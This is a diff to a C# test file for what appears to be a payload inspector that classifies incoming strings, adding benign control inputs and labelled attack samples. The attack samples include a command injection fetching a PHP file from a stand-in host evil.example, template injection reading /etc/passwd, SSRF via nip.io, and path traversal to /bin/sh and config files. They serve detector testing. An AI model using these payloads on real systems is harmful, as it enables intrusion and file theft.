@@ -152,6 +152,10 @@ public sealed class PayloadInspectorTests
         "{\"rules\":[{\"field\":\"status\",\"op\":\"in\",\"value\":[\"open\",\"pending\"]}],\"sort\":\"-created\"}",
         "Below pH 7 the solution is acidic; at pH 7 it is neutral.",
         "Accuracy = (TP + TN) / total, which is misleading on imbalanced data.",
+        "include[]=author&include[]=comments.user",
+        "../img/hero.webp",
+        "« Newer | Older »  << Start | End >>",
+        "//book[not(self::magazine)]",
     ];
 
     public static TheoryData<string, InspectionCategory> Attacks() => new()
@@ -343,6 +347,9 @@ public sealed class PayloadInspectorTests
         { "--output=/var/www/app/public/x.php http://evil.example/x", InspectionCategory.Cmdi },
         { "[% USE f = File('/etc/passwd') %]", InspectionCategory.Ssti },
         { "http://cdn.127.0.0.1.nip.io/", InspectionCategory.Ssrf },
+        { "/actuator/heapdump", InspectionCategory.Lfi },
+        { "/cgi-bin/../../bin/sh", InspectionCategory.Lfi },
+        { "../config.php", InspectionCategory.Lfi },
     };
 
     [Theory]
